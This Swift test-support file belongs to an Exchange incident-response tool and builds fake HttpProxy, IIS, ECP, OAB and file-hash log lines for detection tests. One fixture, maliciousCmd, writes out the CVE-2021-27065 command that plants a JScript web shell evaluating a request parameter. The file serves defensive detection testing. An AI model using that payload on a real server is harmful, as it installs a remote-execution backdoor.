import Foundation
import Testing
@testable import IncidentCore

// MARK: - Locations

/// Where the repository, the shared corpus and the demo case are, found from this file's path
/// (`<repo>/Tests/IncidentCoreTests/Support.swift`).
enum Paths {
    static let repoRoot: URL = URL(fileURLWithPath: #filePath)
        .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
    /// `../shared/corpus` relative to the repository root.
    static let corpus: URL = repoRoot.appendingPathComponent("../shared/corpus").standardizedFileURL
    static let demoCase: URL = repoRoot.appendingPathComponent("Sources/incident/DemoCase")

    static func corpusFile(_ relative: String) -> URL { corpus.appendingPathComponent(relative) }
}

/// True when the real-evidence corpus is checked out next to the repository.
let corpusAvailable: Bool = FileManager.default.fileExists(atPath: Paths.corpus.appendingPathComponent("README.md").path)

/// The bundled test fixtures folder.
func fixturesURL() throws -> URL {
    try #require(Bundle.module.url(forResource: "Fixtures", withExtension: nil))
}

func fixtureLines(_ name: String) throws -> [String] {
    let data = try Data(contentsOf: try fixturesURL().appendingPathComponent(name))
    let bytes = [UInt8](data)
    return bytes.withUnsafeBufferPointer { LineSplitter.split($0, encoding: .utf8, atEOF: true).lines.map(\.text) }
}

// MARK: - Temporary folders

/// A fresh temporary folder, removed when the value goes away.
final class TempDir {
    let url: URL

    init(_ label: String = "t") throws {
        url = FileManager.default.temporaryDirectory
            .appendingPathComponent("incident-core-tests-\(label)-\(UUID().uuidString)", isDirectory: true)
        try FileManager.default.createDirectory(at: url, withIntermediateDirectories: true)
    }

    deinit { try? FileManager.default.removeItem(at: url) }

    /// Writes bytes at a path relative to the folder, creating parent folders.
    @discardableResult
    func write(_ relative: String, _ bytes: [UInt8]) throws -> URL {
        let file = url.appendingPathComponent(relative)
        try FileManager.default.createDirectory(at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Data(bytes).write(to: file)
        return file
    }

    @discardableResult
    func write(_ relative: String, _ text: String) throws -> URL {
        try write(relative, Array(text.utf8))
    }

    func append(_ relative: String, _ bytes: [UInt8]) throws {
        let handle = try FileHandle(forWritingTo: url.appendingPathComponent(relative))
        defer { try? handle.close() }
        try handle.seekToEnd()
        try handle.write(contentsOf: Data(bytes))
    }

    func append(_ relative: String, _ text: String) throws { try append(relative, Array(text.utf8)) }

    func bytes(_ relative: String) throws -> [UInt8] {
        [UInt8](try Data(contentsOf: url.appendingPathComponent(relative)))
    }

    /// Moves a file's modification time, so a same-size rewrite is never mistaken for "unchanged".
    func touch(_ relative: String, secondsAgo: Double) throws {
        try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSinceNow: -secondsAgo)],
                                              ofItemAtPath: url.appendingPathComponent(relative).path)
    }
}

// MARK: - Encoding helpers

func utf16LE(_ s: String, bom: Bool) -> [UInt8] {
    var out: [UInt8] = bom ? [0xFF, 0xFE] : []
    for u in s.utf16 { out.append(UInt8(u & 0xFF)); out.append(UInt8(u >> 8)) }
    return out
}

func utf16BE(_ s: String, bom: Bool) -> [UInt8] {
    var out: [UInt8] = bom ? [0xFE, 0xFF] : []
    for u in s.utf16 { out.append(UInt8(u >> 8)); out.append(UInt8(u & 0xFF)) }
    return out
}

/// Deterministic pseudo-random bytes (SplitMix64), so failures reproduce.
struct SeededRandom: RandomNumberGenerator {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

func randomBytes(count: Int, seed: UInt64) -> [UInt8] {
    var rng = SeededRandom(seed: seed)
    var out = [UInt8]()
    out.reserveCapacity(count)
    while out.count < count {
        let v = rng.next()
        for k in 0..<8 where out.count < count { out.append(UInt8(truncatingIfNeeded: v >> (8 * UInt64(k)))) }
    }
    return out
}

// MARK: - The built-in rules

func builtInEngine() throws -> RuleEngine { try RuleEngine.builtIn() }

func ids(_ indicators: [Indicator]) -> Set<String> { Set(indicators.map(\.id)) }

/// Feeds lines (numbered from 1) into a fresh parser of `format` and returns every record.
func parseAll(_ lines: [String], format: EvidenceFormat) -> [LogRecord] {
    guard var parser = FormatDetector.parser(for: format) else { return [] }
    var out: [LogRecord] = []
    for (i, line) in lines.enumerated() {
        if let r = parser.parse(line, line: i + 1) { out.append(r) }
    }
    return out
}

/// CSV-quotes a value the way Exchange and Export-Csv do when needed.
func csvQuote(_ s: String, always: Bool = false) -> String {
    if always || s.contains(",") || s.contains("\"") {
        return "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }
    return s
}

// MARK: - Evidence line builders (shapes from proxylogon.md §1.0 and the corpus README)

enum HttpProxyLog {
    /// The 74 HttpProxy field names, in logged order (proxylogon.md §1.0.1).
    static let fields: [String] = [
        "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "ClientRequestId",
        "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
        "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus",
        "ErrorCode", "Method", "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
        "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes",
        "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency", "CalculateTargetBackEndLatency",
        "GlsLatencyBreakup", "TotalGlsLatency", "AccountForestLatencyBreakup", "TotalAccountForestLatency",
        "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup",
        "TotalSharedCacheLatency", "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency",
        "BackendReqInitLatency", "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency",
        "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency", "HandlerCompletionLatency",
        "RequestHandlerLatency", "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency", "RoutingLatency",
        "HttpProxyOverhead", "TotalRequestTime", "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo", "GenericInfo",
        "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid", "PartitionEndpointLookupLatency", "RoutingStatus",
    ]

    static let browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.190 Safari/537.36"

    /// A benign, authenticated ECP request by alice.
    static let benign: [String: String] = [
        "DateTime": "2021-03-03T06:12:04.209Z", "RequestId": "c8a0e03c-d27c-4248-8106-268ed4f5c10a",
        "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2106", "RevisionVersion": "2",
        "Protocol": "Ecp", "UrlHost": "mail.corp.example", "UrlStem": "/ecp/PersonalSettings/HomePage.aspx",
        "AuthenticationType": "Negotiate", "IsAuthenticated": "true", "AuthenticatedUser": "CORP\\alice",
        "AnchorMailbox": "Smtp~alice@corp.example", "UserAgent": browserUA, "ClientIpAddress": "10.0.12.34",
        "ServerHostName": "EXCH01", "HttpStatus": "200", "BackEndStatus": "200", "Method": "GET", "ProxyAction": "Proxy",
        "TargetServer": "exch01.corp.example", "TargetServerVersion": "Version 15.1 (Build 2106.2)",
        "RoutingType": "Database", "RoutingHint": "WindowsIdentity",
        "BackEndCookie": "Database~01bf6be6-7dbf-4120-8e3f-1869a8795871~~2021-04-02T06:00:00",
        "UrlQuery": "?showhelp=false", "GenericInfo": "BeginRequest=2021-03-03T06:12:04.101Z;CorrelationID=<empty>;",
    ]

    static var headerLine: String { fields.joined(separator: ",") }

    static var directives: [String] {
        ["#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002", "#Log-type: HttpProxy Logs",
         "#Date: 2021-03-03T06:00:00.000Z", "#Fields: " + fields.joined(separator: ",")]
    }

    static func row(_ overrides: [String: String], fields: [String] = fields) -> String {
        var values = benign
        for (k, v) in overrides { values[k] = v }
        return fields.map { csvQuote(values[$0] ?? "") }.joined(separator: ",")
    }

    /// Exchange's real order: bare header first, then the `#` directives, then the row.
    static func lines(_ overrides: [String: String]) -> [String] {
        [headerLine] + directives + [row(overrides)]
    }
}

enum IISLog {
    static let header: [String] = [
        "#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", "#Date: 2021-03-03 06:00:00",
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    ]
    static let browserUA = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36"

    static func line(_ method: String, _ stem: String, query: String = "-", user: String = "-", ip: String = "10.0.12.34",
                     ua: String = browserUA, status: String = "200", win32: String = "0",
                     time: String = "2021-03-03 06:44:21") -> String {
        "\(time) 10.0.0.21 \(method) \(stem) \(query) 443 \(user) \(ip) \(ua) - \(status) 0 \(win32) 38"
    }

    static func lines(_ method: String, _ stem: String, query: String = "-", user: String = "-", ip: String = "10.0.12.34",
                      ua: String = browserUA, status: String = "200", win32: String = "0") -> [String] {
        header + [line(method, stem, query: query, user: user, ip: ip, ua: ua, status: status, win32: win32)]
    }
}

enum ECPLog {
    static let header: [String] = [
        "#Software: Microsoft Exchange Server", "#Version: 15.0.0.0", "#Log-type: ECP Server Log",
        "#Date: 2021-03-03T00:01:12.408Z", "#Fields: TimeStamp,ServerName,EventId,EventData",
    ]
    static let canary = "fDXplwxXXtn2ICkmCIMRHNAmdZvdmm2GP_oZTMmPRi."
    static let identity = "75398931-1d13-477b-8b83-cc114d86a7c7"

    /// `EventData` as Exchange writes it (before CSV quoting): `;`-separated `S:KEY=value` pairs,
    /// the command pair wrapped in single quotes with doubled inner single quotes.
    static func eventData(cmd: String, quotedCmd: Bool = true, schema: String = "OABVirtualDirectory",
                          verb: String = "SetObject") -> String {
        let cmdPair = quotedCmd ? "'S:CMD=\(cmd)'" : "S:CMD=\(cmd)"
        return "S:TIME=352;S:SID=509cab8c-2cd7-43e5-81c2-90817796be52;\(cmdPair);S:REQID=db863e01-93fa-4201-b034-4c53ac49a263;"
            + "S:URL=/ecp/DDI/DDIService.svc/\(verb)?msExchEcpCanary=\(canary)&schema=\(schema);S:REFERRER=;S:EX=;"
            + "S:ACTID=8e953170-4bb2-4e5b-8d83-8c05029473df;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;"
            + "S:USID=8b0f508e-3441-4f29-9abc-19e5b53e4578;S:EDOID=;S:ACID="
    }

    /// The CVE-2021-27065 command of the helsecert trace (proxylogon.md §1.4), as inside EventData.
    static let maliciousCmd =
        "Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>''.Identity=''\(identity)''"
    static let adminOwaCmd = "Set-OwaVirtualDirectory.ExternalUrl=''https://mail.corp.example/owa''.Identity=''EXCH01\\owa (Default Web Site)''"
    static let adminOabCmd = "Set-OabVirtualDirectory.ExternalUrl=''https://mail.corp.example/OAB''.Identity=''\(identity)''"
    static let cleanupCmd = "Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''\(identity)''"
    static let readCmd = "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null"

    static func row(eventData: String, time: String = "2021-03-03T06:44:34.917Z") -> String {
        "\(time),EXCH01,ECP.Request,\(csvQuote(eventData))"
    }

    static func lines(eventData: String) -> [String] { header + [row(eventData: eventData)] }
    static func lines(cmd: String, quotedCmd: Bool = true, schema: String = "OABVirtualDirectory") -> [String] {
        lines(eventData: eventData(cmd: cmd, quotedCmd: quotedCmd, schema: schema))
    }
}

enum OABLog {
    static let header: [String] = [
        "#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002", "#Log-type: OABGenerator Log",
        "#Date: 2021-03-03T06:00:00.000Z", "#Fields: Timestamp,ProcessId,ThreadId,Level,Message",
    ]
    static let benignTemp = "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\LZXhzdmgalp.lzx'"

    static func row(path: String) -> String {
        "2021-03-03T06:45:12.345Z,4812,77,Error,\"Download failed and temporary file \(path) needs to be removed\""
    }

    static func lines(path: String) -> [String] { header + [row(path: path)] }
}

enum Inventory {
    static let typeLine = "#TYPE Microsoft.Powershell.Utility.FileHash"
    static let header = "\"Algorithm\",\"Hash\",\"Path\""
    static let exchangeWeb = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\"
    /// The baseline 15.0.1497.2 hash of `owa\auth\error.aspx` (a known-good file).
    static let benignHash = "78BCEB48460A5F3439ADBED724D5568063094EC951B4835EE727B0433BC837F2"

    static func row(hash: String, path: String, algorithm: String = "SHA256") -> String {
        [algorithm, hash, path].map { csvQuote($0, always: true) }.joined(separator: ",")
    }

    /// Windows PowerShell 5.1 `Get-FileHash | Export-Csv` shape.
    static func lines(hash: String = benignHash, path: String) -> [String] {
        [typeLine, header, row(hash: hash, path: path)]
    }
}

/// The ids the built-in engine reports for the last record the lines produce.
func matchIDs(_ engine: RuleEngine, _ lines: [String], _ format: EvidenceFormat) throws -> Set<String> {
    let record = try #require(parseAll(lines, format: format).last, "the lines produced no record")
    return ids(engine.match(record, format: format))
}
